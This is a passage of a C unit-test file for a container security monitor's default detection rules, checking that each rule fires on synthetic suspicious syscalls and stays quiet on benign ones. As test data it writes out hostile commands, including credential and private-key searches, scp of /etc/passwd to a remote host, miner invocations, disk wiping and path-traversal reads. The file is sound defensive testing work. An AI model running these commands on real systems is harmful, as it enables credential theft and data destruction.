// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * src/rules: the default rule set (every rule fires on a synthetic event
 * like the kernel's and stays quiet on a benign look-alike), `rules check`
 * errors with their file:line, names resolved across files, rendering, and
 * the kernel spec of kill/deny rules. Run from the repository root.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <asm/unistd.h>

#include "rules/rules.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))
#define DEFAULT_RULES "rules/default.yaml"
#define FIX "tests/unit/rules/"

/* ---- synthetic events ---- */

struct ev_spec {
	const char *sc;      /* syscall name */
	const char *path;    /* STR_PATH: file path or exe */
	const char *extra;   /* STR_EXTRA: path2, or argv separated by spaces for exec */
	const char *comm;    /* default "app" */
	uint32_t uid;
	uint64_t a[6];
	const char *ip;      /* a sockaddr event when set */
	int port;
	bool host;           /* no container */
	const struct container *ctr; /* the container; default web */
	/* what the monitor adds from the process table and the kernel's flags */
	const struct proc *proc; /* the calling process; NULL: unknown */
	const char *exe;     /* the executed file; default: proc's, else as asked */
	const char *path_arg; /* the path as spelled, when the kernel resolved another */
	bool init;           /* phase init (the runtime's set-up) */
	bool age_known;
	int64_t age_s;       /* the container's age, when age_known */
};

#define AGE(s) .age_known = true, .age_s = (s)

static const struct container web = {
	.id = "3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899",
	.runtime = "docker",
	.name = "web",
	.image = "nginx:1.25",
	.running = true,
};

/* Pods: containers with Kubernetes metadata (kubelet's labels, CRI's
 * annotations). */
static const struct container pod = {
	.id = "4a5b6c7d8e9f00112233445566778899aabbccddeeff00112233445566778899",
	.runtime = "containerd",
	.name = "app",
	.image = "registry.example/app:2",
	.k8s_namespace = "shop",
	.k8s_pod = "app-7d9f8-x2x4q",
	.running = true,
};
static const struct container pod_kube_system = {
	.id = "5b6c7d8e9f00112233445566778899aabbccddeeff0011223344556677889900",
	.runtime = "containerd",
	.name = "coredns",
	.image = "registry.k8s.io/coredns/coredns:v1.11.1",
	.k8s_namespace = "kube-system",
	.k8s_pod = "coredns-5d78c9869d-abcde",
	.running = true,
};

/* What containers__resolve returns for a host process: no id. */
static const struct container host_rec = { .runtime = "unknown" };

static const struct container *ev_container(const struct ev_spec *s)
{
	return s->host ? &host_rec : s->ctr ? s->ctr : &web;
}

struct built {
	struct cactus_event e;
	struct event_view v;
};

static void ev_str(struct cactus_event *e, int slot, const char *s)
{
	size_t off = e->data_len, len = strlen(s);

	assert_true(off + len + 1 <= CACTUS_DATA_MAX);
	memcpy(e->data + off, s, len + 1);
	e->str_off[slot] = off;
	e->str_len[slot] = len;
	e->data_len = off + len + 1;
}

static void ev_addr(struct cactus_event *e, const char *ip, int port)
{
	e->flags |= EF_HAS_ADDR;
	e->port = port;
	if (inet_pton(AF_INET, ip, e->addr) == 1) {
		e->family = AF_INET;
		return;
	}
	assert_int_equal(inet_pton(AF_INET6, ip, e->addr), 1);
	e->family = AF_INET6;
}

/* The fields the monitor sets from the process table and the record's
 * flags (src/monitor), as the test wants them. */
static void view_apply(struct event_view *v, const struct ev_spec *s)
{
	v->proc = s->proc;
	v->phase_init = s->init;
	v->container_age_ns = s->age_known ? s->age_s * 1000000000 + 250000000 : -1;
	v->path_arg = s->path_arg;
	if (s->exe)
		v->exe = s->exe;
	else if (s->proc && s->proc->self.exe && s->proc->self.exe[0])
		v->exe = s->proc->self.exe;
}

static struct built *build(const struct ev_spec *s)
{
	const struct cactus_syscall *sc = cactus_syscall_by_name(s->sc);
	struct built *b = calloc(1, sizeof(*b));
	struct cactus_event *e = &b->e;

	assert_non_null(b);
	assert_non_null(sc);
	e->syscall_nr = sc->nr;
	e->pid = 7;
	e->host_pid = 4242;
	e->uid = s->uid;
	memcpy(e->args, s->a, sizeof(e->args));
	snprintf(e->comm, sizeof(e->comm), "%s", s->comm ? s->comm : "app");
	if (s->path)
		ev_str(e, STR_PATH, s->path);
	if (s->extra) {
		ev_str(e, STR_EXTRA, s->extra);
		if (sc->kind == CK_EXEC) {
			for (char *p = e->data + e->str_off[STR_EXTRA]; *p; p++)
				*p = *p == ' ' ? 0 : *p;
			e->flags |= EF_ARGV_NUL;
		}
	}
	if (s->ip)
		ev_addr(e, s->ip, s->port);
	event_view_init(&b->v, e, ev_container(s), 0);
	view_apply(&b->v, s);
	return b;
}

/* ---- processes, as the process table gives them ---- */

#define PI(c, x, pid, fl) { .comm = (c), .exe = (x), .host_pid = (pid), .flags = (fl) }
#define ENTRY PROC_ENTRYPOINT
#define EXECS PROC_EXEC_SESSION
#define DASH "/usr/bin/dash"
#define ENTRY_SH PI("sh", DASH, 1000, ENTRY)

/* the container's entrypoint: a shell script, without and with a terminal
 * (docker run -it IMAGE sh) */
static const struct proc p_entry_sh = { .self = ENTRY_SH };
static const struct proc p_entry_sh_tty = { .self = ENTRY_SH, .tty = true, .tty_name = "pts/0" };
/* docker exec: the runtime exec'd the command; -it gives it a terminal */
static const struct proc p_exec_cat = { .self = PI("cat", "/usr/bin/cat", 501, EXECS) };
static const struct proc p_exec_sh = { .self = PI("sh", DASH, 500, EXECS) };
static const struct proc p_exec_bash_tty = {
	.self = PI("bash", "/usr/bin/bash", 500, EXECS), .tty = true, .tty_name = "pts/0" };
static const struct proc p_exec_bb_sh_tty = {
	.self = PI("sh", "/bin/busybox", 500, EXECS), .tty = true, .tty_name = "pts/0" };
static const struct proc p_exec_python_tty = {
	.self = PI("python3", "/usr/bin/python3.11", 500, EXECS), .tty = true, .tty_name = "pts/0" };
/* bash started in the terminal of an exec session's shell */
static const struct proc p_nested_bash_tty = {
	.self = PI("bash", "/usr/bin/bash", 502, 0), .anc = { PI("sh", DASH, 500, EXECS) },
	.n_anc = 1, .tty = true, .tty_name = "pts/0" };
/* a shell on a pty that python opened (pty.spawn), no terminal before */
static const struct proc p_pty_sh = {
	.self = PI("sh", DASH, 700, 0),
	.anc = { PI("python3", "/usr/bin/python3.11", 699, 0), PI("sh", DASH, 698, 0) },
	.n_anc = 2, .tty = true, .tty_name = "pts/3" };
/* docker run --init -it IMAGE sh: tini (the entrypoint) starts the shell */
static const struct proc p_tini_sh_tty = {
	.self = PI("sh", DASH, 1001, 0), .anc = { PI("tini", "/usr/bin/tini", 1000, ENTRY) },
	.n_anc = 1, .tty = true, .tty_name = "pts/0" };
/* shells started by programs */
static const struct proc p_java_sh = {
	.self = PI("sh", DASH, 800, 0), .anc = { PI("java", "/opt/java/bin/java", 1000, ENTRY) },
	.n_anc = 1 };
static const struct proc p_java2_sh = {
	.self = PI("sh", DASH, 800, 0),
	.anc = { PI("java", "/opt/java/bin/java", 900, 0), PI("tini", "/usr/bin/tini", 1000, ENTRY) },
	.n_anc = 2 };
static const struct proc p_java_bb = {
	.self = PI("sh", "/bin/busybox", 800, 0),
	.anc = { PI("java", "/opt/java/bin/java", 900, 0) }, .n_anc = 1 };
static const struct proc p_java_id = {
	.self = PI("id", "/usr/bin/id", 800, 0), .anc = { PI("java", "/opt/java/bin/java", 900, 0) },
	.n_anc = 1 };
static const struct proc p_script_sh = {
	.self = PI("sh", DASH, 801, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_busybox_sh = {
	.self = PI("sh", "/bin/busybox", 802, 0), .anc = { PI("httpd", "/bin/busybox", 1000, 0) },
	.n_anc = 1 };
static const struct proc p_cron_sh = {
	.self = PI("sh", DASH, 803, 0), .anc = { PI("cron", "/usr/sbin/cron", 1000, ENTRY) },
	.n_anc = 1 };
static const struct proc p_dpkg_sh = {
	.self = PI("sh", DASH, 804, 0),
	.anc = { PI("dpkg", "/usr/bin/dpkg", 805, 0), PI("apt-get", "/usr/bin/apt-get", 806, 0) },
	.n_anc = 2 };
static const struct proc p_exec_child_sh = {
	.self = PI("sh", DASH, 807, 0), .anc = { PI("python3", "/usr/bin/python3.11", 501, EXECS) },
	.n_anc = 1 };
/* programs */
static const struct proc p_dpkg = {
	.self = PI("dpkg", "/usr/bin/dpkg", 805, 0), .anc = { PI("apt-get", "/usr/bin/apt-get", 806, 0) },
	.n_anc = 1 };
static const struct proc p_pip = {
	.self = PI("pip", "/usr/bin/python3.11", 808, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_cat = {
	.self = PI("cat", "/usr/bin/cat", 904, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_logrotate = { .self = PI("logrotate", "/usr/sbin/logrotate", 903, 0) };
static const struct proc p_sshd = { .self = PI("sshd", "/usr/sbin/sshd", 905, 0) };
static const struct proc p_sudo = { .self = PI("sudo", "/usr/bin/sudo", 906, 0) };
static const struct proc p_nc = {
	.self = PI("nc", "/usr/bin/nc.openbsd", 907, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_socat = { .self = PI("socat", "/usr/bin/socat", 908, 0) };
static const struct proc p_bb_nc = {
	.self = PI("nc", "/bin/busybox", 909, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_nginx = { .self = PI("nginx", "/usr/sbin/nginx", 1000, ENTRY) };
static const struct proc p_bb_httpd = {
	.self = PI("httpd", "/bin/busybox", 1001, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_python_srv = {
	.self = PI("python3", "/usr/bin/python3.11", 1002, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_bb_wget = {
	.self = PI("wget", "/bin/busybox", 1003, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_bash = {
	.self = PI("bash", "/usr/bin/bash", 910, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
/* names that lie: comm is whatever the process set (prctl, /proc/self/comm) */
static const struct proc p_bash_named_curl = { .self = PI("curl", "/usr/bin/bash", 911, 0) };
static const struct proc p_curl_named_bash = { .self = PI("bash", "/usr/bin/curl", 912, 0) };
static const struct proc p_named_runc = {
	.self = PI("runc:[2:INIT]", "/tmp/evil", 913, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_named_logrotate = { .self = PI("logrotate", "/bin/busybox", 914, 0) };
static const struct proc p_named_sshd = { .self = PI("sshd", "/usr/bin/cat", 915, 0) };
static const struct proc p_named_sudo = { .self = PI("sudo", "/usr/bin/cat", 916, 0) };
static const struct proc p_python_named_nc = { .self = PI("nc", "/usr/bin/python3.11", 917, 0) };
/* a web server under tini, and one a shell script started */
static const struct proc p_web = {
	.self = PI("python3", "/usr/bin/python3.11", 600, 0),
	.anc = { PI("tini", "/usr/bin/tini", 1000, ENTRY) }, .n_anc = 1 };
static const struct proc p_web_under_sh = {
	.self = PI("python3", "/usr/bin/python3.11", 600, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
static const struct proc p_cat_from_sh = {
	.self = PI("cat", "/usr/bin/cat", 601, 0), .anc = { PI("sh", DASH, 600, 0) }, .n_anc = 1 };
static const struct proc p_ssh = {
	.self = PI("ssh", "/usr/bin/ssh", 602, 0), .anc = { ENTRY_SH }, .n_anc = 1 };
/* a command of an ssh session: sshd, then the user's shell */
static const struct proc p_sshd_child = {
	.self = PI("id", "/usr/bin/id", 605, 0),
	.anc = { PI("bash", "/usr/bin/bash", 606, 0), PI("sshd", "/usr/sbin/sshd", 607, 0) },
	.n_anc = 2 };
static const struct proc p_sshd_session = {
	.self = PI("sshd-session", "/usr/lib/openssh/sshd-session", 608, 0),
	.anc = { PI("sshd", "/usr/sbin/sshd", 607, 0) }, .n_anc = 1 };
static const struct proc p_keepalived = {
	.self = PI("keepalived", "/usr/sbin/keepalived", 1000, ENTRY) };

/* ---- the default rule set ---- */

struct rule_case {
	const char *rule;
	bool fires;
	struct ev_spec ev;
};

#define FIRE(r, s, ...) { r, true, { .sc = s, __VA_ARGS__ } }
#define QUIET(r, s, ...) { r, false, { .sc = s, __VA_ARGS__ } }
#define WR (O_WRONLY | O_CREAT | O_TRUNC)

static const struct rule_case cases[] = {
	/* docker exec -it bash; a pty python opened for a shell; busybox's sh */
	FIRE("terminal_shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash",
	     .proc = &p_exec_bash_tty),
	FIRE("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -i",
	     .proc = &p_pty_sh),
	FIRE("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
	     .proc = &p_exec_bb_sh_tty),
	/* renamed: comm says python, the file executed is bash */
	FIRE("terminal_shell_in_container", "execve", .path = "/usr/local/bin/py",
	     .exe = "/usr/bin/bash", .extra = "py", .comm = "python3", .proc = &p_exec_bash_tty),
	/* the entrypoint (docker run -it IMAGE sh), tini starting it at start-up */
	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
	      .proc = &p_entry_sh_tty),
	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
	      .proc = &p_tini_sh_tty, AGE(1)),
	/* no terminal: docker exec c sh -c ..., the entrypoint script */
	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id",
	      .proc = &p_exec_sh),
	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh /run.sh",
	      .proc = &p_entry_sh),
	/* a shell from the session's shell: the session already alerted */
	QUIET("terminal_shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash",
	      .proc = &p_nested_bash_tty),
	/* not a shell; an unknown process (no tty known); the host */
	QUIET("terminal_shell_in_container", "execve", .path = "/usr/bin/python3",
	      .extra = "python3", .proc = &p_exec_python_tty),
	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id"),
	QUIET("terminal_shell_in_container", "execve", .path = "/bin/sh", .extra = "sh",
	      .proc = &p_exec_bash_tty, .host = true),
	/* a server starting a shell, after start-up; a java that is not the
	 * entrypoint, even at start-up; busybox's sh by argv[0], as "busybox
	 * sh", or as a renamed copy of busybox */
	FIRE("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
	     .proc = &p_java_sh, AGE(300)),
	FIRE("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
	     .proc = &p_java2_sh, AGE(5)),
	FIRE("shell_spawned_by_program", "execve", .path = "/bin/busybox", .extra = "sh -c id",
	     .proc = &p_java_bb),
	FIRE("shell_spawned_by_program", "execve", .path = "/bin/busybox",
	     .extra = "busybox sh -c id", .proc = &p_java_bb),
	FIRE("shell_spawned_by_program", "execve", .path = "/usr/local/bin/bb",
	     .exe = "/usr/local/bin/bb", .extra = "sh -c id", .proc = &p_java_bb),
	/* the entrypoint's start-up; scripts; busybox parents; cron; a
	 * maintainer script under dpkg; an exec session or its command; the
	 * entrypoint shell; an unknown parent; not a shell */
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
	      .proc = &p_java_sh, AGE(5)),
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh x.sh",
	      .proc = &p_script_sh, AGE(300)),
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
	      .proc = &p_busybox_sh, AGE(300)),
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c job",
	      .proc = &p_cron_sh, AGE(300)),
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh postinst",
	      .proc = &p_dpkg_sh, AGE(300)),
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c make",
	      .proc = &p_exec_child_sh, AGE(300)),
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh",
	      .proc = &p_exec_sh, AGE(300)),
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh /run.sh",
	      .proc = &p_entry_sh, AGE(0)),
	QUIET("shell_spawned_by_program", "execve", .path = "/bin/sh", .extra = "sh -c id",
	      AGE(300)),
	QUIET("shell_spawned_by_program", "execve", .path = "/usr/bin/id", .extra = "id",
	      .proc = &p_java_id, AGE(300)),
	FIRE("package_manager_in_container", "execve", .path = "/usr/bin/apt-get",
	     .extra = "apt-get install nmap"),
	FIRE("package_manager_in_container", "execve", .path = "/sbin/apk",
	     .extra = "apk add curl"),
	/* pip is a script: the file executed is python, the name asked pip */
	FIRE("package_manager_in_container", "execve", .path = "/usr/bin/pip",
	     .extra = "pip install requests", .proc = &p_pip),
	QUIET("package_manager_in_container", "execve", .path = "/usr/bin/dpkg-query",
	      .extra = "dpkg-query -l"),
	/* dpkg run by apt-get: apt-get alerted */
	QUIET("package_manager_in_container", "execve", .path = "/usr/bin/dpkg",
	      .extra = "dpkg --unpack x.deb", .proc = &p_dpkg),
	FIRE("remote_file_copy_tool", "execve", .path = "/usr/bin/rsync",
	     .extra = "rsync -a /data backup:/x"),
	FIRE("remote_file_copy_tool", "execve", .path = "/usr/bin/scp", .extra = "scp /etc/passwd h:"),
	QUIET("remote_file_copy_tool", "execve", .path = "/bin/cp", .extra = "cp /data /backup"),
	FIRE("drift_exec_from_scratch_dir", "execve", .path = "/tmp/payload", .extra = "payload"),
	FIRE("drift_exec_from_scratch_dir", "execve", .path = "/dev/shm/x", .extra = "x"),
	QUIET("drift_exec_from_scratch_dir", "execve", .path = "/usr/bin/ls",
	      .extra = "ls /tmp/payload"),
	QUIET("drift_exec_from_scratch_dir", "execve", .path = "/tmpfoo/bin", .extra = "bin"),
	FIRE("drift_chmod_exec_in_scratch_dir", "chmod", .path = "/tmp/payload", .a = { 0, 0755 }),
	FIRE("drift_chmod_exec_in_scratch_dir", "fchmodat", .path = "/var/tmp/x",
	     .a = { 0, 0, 0700 }),
	QUIET("drift_chmod_exec_in_scratch_dir", "chmod", .path = "/tmp/notes", .a = { 0, 0644 }),
	QUIET("drift_chmod_exec_in_scratch_dir", "chmod", .path = "/opt/app", .a = { 0, 0755 }),
	/* sh /dev/shm/x.sh: a shell reads the script, nothing is exec'd from
	 * there (drift is quiet); sh -c 'ls /dev/shm' */
	FIRE("shell_script_from_dev_shm", "execve", .path = "/bin/sh", .exe = "/bin/busybox",
	     .extra = "sh /dev/shm/x.sh"),
	FIRE("shell_script_from_dev_shm", "execve", .path = "/bin/sh", .exe = "/bin/busybox",
	     .extra = "sh -c /dev/shm/x.sh"),
	QUIET("shell_script_from_dev_shm", "execve", .path = "/bin/sh", .exe = "/bin/busybox",
	      .extra = "sh -c ls_/dev/shm"),
	QUIET("shell_script_from_dev_shm", "execve", .path = "/bin/cat", .exe = "/bin/busybox",
	      .extra = "cat /dev/shm/x.sh"),
	QUIET("drift_exec_from_scratch_dir", "execve", .path = "/bin/sh", .exe = "/bin/busybox",
	      .extra = "sh /dev/shm/x.sh"),
	FIRE("crypto_miner_binary", "execve", .path = "/opt/xmrig",
	     .extra = "xmrig --donate-level 1"),
	QUIET("crypto_miner_binary", "execve", .path = "/usr/bin/xmllint",
	      .extra = "xmllint a.xml"),
	FIRE("crypto_miner_stratum_cmdline", "execve", .path = "/opt/m",
	     .extra = "m -o stratum+tcp://pool:3333"),
	QUIET("crypto_miner_stratum_cmdline", "execve", .path = "/usr/bin/curl",
	      .extra = "curl https://pool/"),
	/* grep -r "BEGIN RSA PRIVATE" /; -i with another case; a certificate;
	 * sed with the same pattern */
	FIRE("search_private_keys_grep", "execve", .path = "/bin/grep", .exe = "/bin/busybox",
	     .extra = "grep -r BEGIN RSA PRIVATE /etc"),
	FIRE("search_private_keys_grep", "execve", .path = "/usr/bin/grep",
	     .extra = "grep -ril begin openssh private /home"),
	FIRE("search_private_keys_grep", "execve", .path = "/bin/egrep", .exe = "/bin/busybox",
	     .extra = "egrep -rl BEGIN (EC|DSA) PRIVATE|BEGIN PRIVATE /"),
	QUIET("search_private_keys_grep", "execve", .path = "/bin/grep", .exe = "/bin/busybox",
	      .extra = "grep -r BEGIN CERTIFICATE /etc"),
	QUIET("search_private_keys_grep", "execve", .path = "/bin/sed", .exe = "/bin/busybox",
	      .extra = "sed -n /BEGIN RSA PRIVATE/p key.pem"),
	/* find / -name id_rsa (event-generator: find /tmp -maxdepth 1 -iname id_rsa) */
	FIRE("search_private_keys_find", "execve", .path = "/usr/bin/find", .exe = "/bin/busybox",
	     .extra = "find /tmp -maxdepth 1 -iname id_rsa"),
	FIRE("search_private_keys_find", "execve", .path = "/usr/bin/find",
	     .extra = "find / -name *id_ed25519*"),
	QUIET("search_private_keys_find", "execve", .path = "/usr/bin/find", .exe = "/bin/busybox",
	      .extra = "find /root/.ssh -name known_hosts"),
	QUIET("search_private_keys_find", "execve", .path = "/bin/ls", .exe = "/bin/busybox",
	      .extra = "ls /root/.ssh/id_rsa"),
	/* grep -ri aws_secret_access_key /; AWS_REGION; find .aws/credentials */
	FIRE("find_aws_credentials_grep", "execve", .path = "/bin/grep", .exe = "/bin/busybox",
	     .extra = "grep -ri aws_secret_access_key /root"),
	FIRE("find_aws_credentials_grep", "execve", .path = "/usr/bin/grep",
	     .extra = "grep -r AWS_ACCESS_KEY_ID /proc/1/environ"),
	FIRE("find_aws_credentials_grep", "execve", .path = "/usr/bin/grep",
	     .extra = "grep -r SecretAccessKey /app"),
	QUIET("find_aws_credentials_grep", "execve", .path = "/bin/grep", .exe = "/bin/busybox",
	      .extra = "grep -ri aws_region /root"),
	FIRE("find_aws_credentials_find", "execve", .path = "/usr/bin/find", .exe = "/bin/busybox",
	     .extra = "find /tmp -maxdepth 1 -iname .aws/credentials"),
	FIRE("find_aws_credentials_find", "execve", .path = "/usr/bin/find",
	     .extra = "find / -path */.aws/credentials -print"),
	QUIET("find_aws_credentials_find", "execve", .path = "/usr/bin/find",
	      .extra = "find / -path */.aws/config"),
	QUIET("find_aws_credentials_find", "execve", .path = "/bin/cat", .exe = "/bin/busybox",
	      .extra = "cat /root/.aws/credentials"),
	/* shred -u f (event-generator); mkfs.ext4 (mkfs -t's child); mke2fs */
	FIRE("remove_bulk_data", "execve", .path = "/usr/bin/shred", .exe = "/bin/busybox",
	     .extra = "shred -u /tmp/eg-file"),
	FIRE("remove_bulk_data", "execve", .path = "/sbin/mkfs.ext4", .exe = "/usr/sbin/mke2fs",
	     .extra = "mkfs.ext4 /dev/sdb1"),
	FIRE("remove_bulk_data", "execve", .path = "/sbin/mke2fs", .exe = "/bin/busybox",
	     .extra = "mke2fs /tmp/img"),
	QUIET("remove_bulk_data", "execve", .path = "/bin/rm", .exe = "/bin/busybox",
	      .extra = "rm -rf /tmp/eg-dir"),
	QUIET("remove_bulk_data", "execve", .path = "/sbin/mkswap", .exe = "/bin/busybox",
	      .extra = "mkswap /tmp/swap"),
	FIRE("debugfs_in_container", "execve", .path = "/usr/sbin/debugfs", .extra = "debugfs -V"),
	FIRE("debugfs_in_container", "execve", .path = "/usr/bin/debugfs", .exe = "/bin/busybox",
	     .extra = "debugfs -w /dev/sda1"),
	QUIET("debugfs_in_container", "execve", .path = "/usr/bin/which", .exe = "/bin/busybox",
	      .extra = "which debugfs"),
	/* docker exec -u 1 C login; -u 1 id; root's login */
	FIRE("system_user_login", "execve", .path = "/bin/login", .exe = "/bin/busybox",
	     .extra = "login", .uid = 1),
	FIRE("system_user_login", "execve", .path = "/bin/login", .exe = "/bin/login",
	     .extra = "login -f www-data", .uid = 33),
	QUIET("system_user_login", "execve", .path = "/usr/bin/id", .exe = "/bin/busybox",
	      .extra = "id", .uid = 1),
	QUIET("system_user_login", "execve", .path = "/bin/login", .exe = "/bin/busybox",
	      .extra = "login", .uid = 0),
	QUIET("system_user_login", "execve", .path = "/bin/login", .exe = "/bin/busybox",
	      .extra = "login", .uid = 1000),
	/* www-data's command under sshd; a real user's; sshd's own programs */
	FIRE("system_user_ssh_session", "execve", .path = "/usr/bin/id", .extra = "id",
	     .uid = 33, .proc = &p_sshd_child),
	QUIET("system_user_ssh_session", "execve", .path = "/usr/bin/id", .extra = "id",
	      .uid = 1000, .proc = &p_sshd_child),
	QUIET("system_user_ssh_session", "execve", .path = "/usr/lib/openssh/sshd-session",
	      .extra = "sshd-session", .uid = 65534, .proc = &p_sshd_session),
	QUIET("system_user_ssh_session", "execve", .path = "/usr/bin/id", .extra = "id",
	      .uid = 33, .proc = &p_cat),
	FIRE("write_below_etc", "openat", .path = "/etc/passwd",
	     .a = { 0, 0, O_WRONLY | O_APPEND }),
	FIRE("write_below_etc", "openat", .path = "/etc/cron.d/job", .a = { 0, 0, WR }),
	QUIET("write_below_etc", "openat", .path = "/etc/passwd", .a = { 0, 0, O_RDONLY }),
	QUIET("write_below_etc", "openat", .path = "/etcetera/x", .a = { 0, 0, WR }),
	FIRE("write_below_binary_dirs", "openat", .path = "/usr/bin/ls", .a = { 0, 0, O_RDWR }),
	FIRE("write_below_binary_dirs", "open", .path = "/bin/ps", .a = { 0, WR }),
	QUIET("write_below_binary_dirs", "openat", .path = "/usr/bin/ls", .a = { 0, 0, O_RDONLY }),
	FIRE("write_below_boot", "openat", .path = "/boot/grub/grub.cfg", .a = { 0, 0, WR }),
	QUIET("write_below_boot", "openat", .path = "/boot/grub/grub.cfg", .a = { 0, 0, O_RDONLY }),
	FIRE("modify_system_dirs", "unlinkat", .path = "/etc/hosts"),
	FIRE("modify_system_dirs", "renameat2", .path = "/usr/bin/.ls.tmp", .extra = "/usr/bin/ls"),
	FIRE("modify_system_dirs", "mkdir", .path = "/usr/lib/evil"),
	QUIET("modify_system_dirs", "unlinkat", .path = "/tmp/x"),
	QUIET("modify_system_dirs", "openat", .path = "/etc/hosts", .a = { 0, 0, O_RDONLY }),
	FIRE("read_credential_files", "openat", .path = "/etc/shadow", .a = { 0, 0, O_RDONLY }),
	FIRE("read_credential_files", "open", .path = "/etc/sudoers", .a = { 0, O_RDONLY }),
	QUIET("read_credential_files", "openat", .path = "/etc/passwd", .a = { 0, 0, O_RDONLY }),
	QUIET("read_credential_files", "openat", .path = "/etc/shadow", .host = true),
	QUIET("read_credential_files", "openat", .path = "/etc/sudoers", .proc = &p_sudo),
	FIRE("read_credential_files", "openat", .path = "/etc/sudoers", .comm = "sudo",
	     .proc = &p_named_sudo),
	FIRE("read_sudoers_dir", "openat", .path = "/etc/sudoers.d/admins"),
	QUIET("read_sudoers_dir", "openat", .path = "/etc/sudo.conf"),
	QUIET("read_sudoers_dir", "openat", .path = "/etc/sudoers.d/admins", .proc = &p_sudo),
	FIRE("read_ssh_keys", "openat", .path = "/root/.ssh/id_rsa"),
	FIRE("read_ssh_keys", "openat", .path = "/home/bob/.ssh/id_ed25519"),
	FIRE("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key"),
	QUIET("read_ssh_keys", "openat", .path = "/root/.ssh/id_rsa.pub"),
	QUIET("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .proc = &p_sshd),
	FIRE("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .comm = "sshd",
	     .proc = &p_named_sshd),
	/* cat /etc/../etc/../etc/passwd by an exec session's command or a web
	 * server; one ../; a traversal to another file; from a shell */
	FIRE("directory_traversal_read", "openat", .path = "/etc/passwd",
	     .path_arg = "/etc/../etc/../etc/passwd", .a = { -100, 0, O_RDONLY },
	     .proc = &p_exec_cat),
	FIRE("directory_traversal_read", "openat", .path = "/root/.ssh/id_rsa",
	     .path_arg = "../../root/.ssh/id_rsa", .a = { -100, 0, O_RDONLY }, .proc = &p_web),
	/* Falco's "not proc.pname in (shell_binaries)": a server a script
	 * started is excepted too */
	QUIET("directory_traversal_read", "openat", .path = "/root/.ssh/id_rsa",
	      .path_arg = "../../root/.ssh/id_rsa", .a = { -100, 0, O_RDONLY },
	      .proc = &p_web_under_sh),
	QUIET("directory_traversal_read", "openat", .path = "/etc/passwd",
	      .path_arg = "/srv/../etc/passwd", .a = { -100, 0, O_RDONLY }, .proc = &p_exec_cat),
	QUIET("directory_traversal_read", "openat", .path = "/mnt/test.txt",
	      .path_arg = "/mnt/../mnt/../mnt/test.txt", .a = { -100, 0, O_RDONLY },
	      .proc = &p_exec_cat),
	QUIET("directory_traversal_read", "openat", .path = "/etc/passwd",
	      .path_arg = "/etc/../etc/../etc/passwd", .a = { -100, 0, O_RDONLY },
	      .proc = &p_cat_from_sh),
	/* cat /etc/pam.d/other; ls /etc/pam.d (the directory); su; sshd-session */
	FIRE("read_pam_config", "openat", .path = "/etc/pam.d/other", .a = { -100, 0, O_RDONLY }),
	FIRE("read_pam_config", "openat", .path = "/etc/pam.conf", .a = { -100, 0, O_RDONLY }),
	QUIET("read_pam_config", "openat", .path = "/etc/pam.d", .a = { -100, 0, O_RDONLY }),
	QUIET("read_pam_config", "openat", .path = "/etc/pam.d/su", .a = { -100, 0, O_RDONLY },
	      .exe = "/usr/bin/su"),
	QUIET("read_pam_config", "openat", .path = "/etc/pam.d/sshd", .a = { -100, 0, O_RDONLY },
	      .proc = &p_sshd_session),
	FIRE("symlink_to_sensitive_file", "symlink", .path = "/tmp/s", .extra = "/etc/shadow"),
	FIRE("symlink_to_sensitive_file", "symlinkat", .path = "/var/www/r", .extra = "/"),
	QUIET("symlink_to_sensitive_file", "symlink", .path = "/tmp/s", .extra = "/etc/hostname"),
	QUIET("symlink_to_sensitive_file", "symlinkat", .path = "/tmp/s",
	      .extra = "/etc/shadowsocks.json"),
	FIRE("hardlink_to_sensitive_file", "link", .path = "/etc/shadow", .extra = "/tmp/h"),
	FIRE("hardlink_to_sensitive_file", "linkat", .path = "/etc/gshadow", .extra = "/tmp/g"),
